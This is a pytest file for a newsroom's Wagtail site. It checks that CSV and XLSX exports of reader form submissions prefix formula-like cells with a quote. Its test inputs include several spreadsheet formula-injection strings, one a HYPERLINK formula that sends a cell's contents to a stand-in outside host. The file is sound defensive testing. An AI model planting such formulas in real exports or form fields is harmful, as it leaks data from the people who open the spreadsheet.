"""Exports of reader form submissions: what a reader typed stays text in the desk's spreadsheet."""

import csv
import io
import json

import pytest
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission

from krant.core.models import FormField, FormPage
from krant.core.roles import DESK
from tests.factories import make_user, publish

DANGEROUS = [
    '=HYPERLINK("https://example.invalid/?x="&A1,"Klik")',
    "+31 6 12345678",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def complaints(tree):
    page = FormPage(title="Klacht indienen", slug="klacht", to_address="", from_address="", subject="")
    tree.home.add_child(instance=page)
    FormField.objects.create(page=page, sort_order=0, label="Bericht", field_type="multiline", required=True)
    publish(page)
    for message in [*DANGEROUS, "Gewoon een bericht - met een streepje"]:
        FormSubmission.objects.create(page=page, form_data=json.loads(json.dumps({"bericht": message})))
    return page


def export(client, page, kind):
    client.force_login(make_user("eindredacteur", DESK))
    response = client.get(f"/admin/forms/submissions/{page.pk}/", {"export": kind})
    assert response.status_code == 200
    return response


def test_csv_export_neutralises_formulas(complaints, client):
    """In the CSV export every cell a spreadsheet would run as a formula starts with a quote."""
    response = export(client, complaints, "csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    messages = {row["Bericht"] for row in rows}
    assert messages == {"'" + text for text in DANGEROUS} | {"Gewoon een bericht - met een streepje"}


def test_xlsx_export_neutralises_formulas(complaints, client):
    """In the XLSX export the same cells are text that starts with a quote."""
    response = export(client, complaints, "xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    column = header.index("Bericht")
    messages = {row[column].value for row in sheet.iter_rows(min_row=2)}
    assert messages == {"'" + text for text in DANGEROUS} | {"Gewoon een bericht - met een streepje"}
